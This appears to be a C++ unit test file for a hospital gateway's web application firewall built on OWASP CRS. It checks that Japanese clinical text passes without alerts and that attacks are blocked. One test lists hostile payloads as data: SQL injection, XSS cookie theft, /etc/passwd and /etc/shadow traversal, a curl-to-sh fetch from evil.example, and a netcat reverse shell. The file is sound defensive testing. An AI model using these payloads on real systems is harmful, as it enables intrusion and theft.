// HTTP inspection (S-3, issue 14) with Debian's OWASP CRS 3.3 and the project's rules, the
// engine on every request (prefilter_test.cpp proves the prefilter changes no verdict):
// Japanese clinical text never raises an alert (CRS 941310 alone blocked 会社 before),
// while each attack family is still blocked; detection-only routes alert without blocking.
#include <filesystem>
#include <fstream>
#include <set>

#include "gateway/inspection/inspector.h"
#include "tests/gateway_unit/inspection_fixture.h"
#include "tests/gateway_unit/stage_fixture.h"

using namespace nanbyo;
using namespace nanbyo::gw;
namespace fs = std::filesystem;

namespace {

using testing::form_post;
using testing::get;
using testing::japanese_corpus;
using testing::kSource;
using testing::require_crs;
using testing::url_encode;

std::shared_ptr<const policy::Policy> inspection_policy() {
  static const auto policy =
      testing::policy_with("inspection:\n  paranoia_level: 1\n  prefilter: false\n  local_rules: " +
                           (kSource / "packaging/inspection/japanese-text.conf").string() + R"(
routes:
  - {listener: hospital, path_prefix: /, upstream: appcore}
  - {listener: hospital, path_prefix: /watch, upstream: appcore, inspection: {mode: detection}}
  - {listener: hospital, path_prefix: /search, upstream: appcore,
     inspection: {exclusions: [{rule: "930120", target: "ARGS:q"}]}}
)");
  return policy;
}

const Inspector& inspector(const policy::Policy& policy) {
  static std::shared_ptr<const Inspector> built;
  if (!built) {
    auto made = Inspector::build(policy);
    INFO((made ? std::string() : made.error().message));
    REQUIRE(made);
    built = *made;
  }
  return *built;
}

}  // namespace

TEST_CASE("Japanese clinical text passes inspection without a single alert", "[inspection]") {
  require_crs();
  auto policy = inspection_policy();
  const auto& engine = inspector(*policy);
  const auto corpus = japanese_corpus();
  REQUIRE(corpus.size() > 500);
  std::size_t alerted = 0;
  for (const auto& text : corpus) {
    for (const auto& request :
         {form_post("/forms/1/edit", "comment", text), get("/search?q=" + url_encode(text))}) {
      auto result = engine.inspect(request, "127.0.0.1:40000", &policy->routes[0]);
      if (!result.alerts.empty()) {
        ++alerted;
        UNSCOPED_INFO(text << " -> rule " << result.alerts.front().rule_id << " "
                           << result.alerts.front().message);
      }
    }
  }
  CHECK(alerted == 0);
  // The text that CRS 941310 blocked before the project's rule replaced it.
  auto kaisha = engine.inspect(form_post("/x", "job", "会社員"), "127.0.0.1:1", &policy->routes[0]);
  CHECK(kaisha.inspected);
  CHECK(kaisha.alerts.empty());
}

TEST_CASE("each attack family is blocked, with its rule ids and family", "[inspection]") {
  require_crs();
  auto policy = inspection_policy();
  const auto& engine = inspector(*policy);
  const std::vector<std::pair<std::string, std::string>> attacks = {
      {"sqli", "1' OR '1'='1' -- "},
      {"sqli", "1 UNION SELECT username, password FROM users"},
      {"sqli", "'; DROP TABLE patients; --"},
      {"xss", "<script>alert(document.cookie)</script>"},
      {"xss", "<img src=x onerror=alert(1)>"},
      {"xss", "javascript:alert(1)"},
      {"lfi", "../../../../etc/passwd"},
      {"lfi", "....//....//etc/shadow"},
      {"rce", "; cat /etc/passwd"},
      {"rce", "$(curl http://evil.example/x.sh | sh)"},
      {"rce", "| nc -e /bin/sh 10.0.0.1 4444"},
  };
  for (const auto& [family, payload] : attacks) {
    INFO(family << ": " << payload);
    auto result = engine.inspect(form_post("/forms/1/edit", "comment", payload), "127.0.0.1:40000",
                                 &policy->routes[0]);
    CHECK(result.blocked);
    CHECK(result.anomaly_score >= 5);
    std::set<std::string> families;
    std::string seen;
    for (const auto& alert : result.alerts) {
      families.insert(alert.family);
      seen += alert.rule_id + "/" + alert.family + " ";
    }
    INFO("alerts: " << seen);
    CHECK(families.count(family) == 1);
  }
}

TEST_CASE("detection-only routes alert without blocking", "[inspection]") {
  require_crs();
  auto policy = inspection_policy();
  const auto& engine = inspector(*policy);
  auto watched = engine.inspect(get("/watch?q=" + url_encode("<script>alert(1)</script>")),
                                "127.0.0.1:1", &policy->routes[1]);
  CHECK(watched.detection_only);
  CHECK_FALSE(watched.blocked);
  CHECK_FALSE(watched.alerts.empty());
  auto blocked = engine.inspect(get("/?q=" + url_encode("<script>alert(1)</script>")),
                                "127.0.0.1:1", &policy->routes[0]);
  CHECK(blocked.blocked);
  CHECK(blocked.alerts.front().variable.find("ARGS:q") != std::string::npos);
}

TEST_CASE("an exclusion lifts one rule from one variable on one route", "[inspection]") {
  require_crs();
  auto policy = inspection_policy();
  const auto& engine = inspector(*policy);
  auto ids = [](const InspectionResult& result) {
    std::set<std::string> out;
    for (const auto& alert : result.alerts) out.insert(alert.rule_id);
    return out;
  };
  const std::string query = "?q=" + url_encode("../../etc/passwd");
  auto everywhere = engine.inspect(get("/" + query), "127.0.0.1:1", &policy->routes[0]);
  CHECK(ids(everywhere).count("930120") == 1);
  auto excluded = engine.inspect(get("/search" + query), "127.0.0.1:1", &policy->routes[2]);
  CHECK(ids(excluded).count("930120") == 0);
  CHECK(excluded.blocked);  // the other traversal rules still see ARGS:q
}

TEST_CASE("without the project's rules, the CRS alone blocks Japanese text", "[inspection]") {
  require_crs();
  // What the project's rules fix, shown on the stock CRS: an empty local rules file.
  const fs::path empty = fs::temp_directory_path() / "nanbyo-inspection-empty.conf";
  std::ofstream(empty) << "# nothing\n";
  auto stock_policy =
      testing::policy_with("inspection: {prefilter: false, local_rules: " + empty.string() +
                           "}\nroutes:\n  - {listener: hospital, "
                           "path_prefix: /, upstream: appcore}\n");
  auto stock = Inspector::build(*stock_policy);
  REQUIRE(stock);
  auto kaisha =
      (*stock)->inspect(form_post("/x", "job", "会社員"), "127.0.0.1:1", &stock_policy->routes[0]);
  CHECK(kaisha.blocked);
  auto disease = (*stock)->inspect(form_post("/x", "name", "先天性血栓性血小板減少性紫斑病"),
                                   "127.0.0.1:1", &stock_policy->routes[0]);
  CHECK(disease.blocked);
  fs::remove(empty);
}
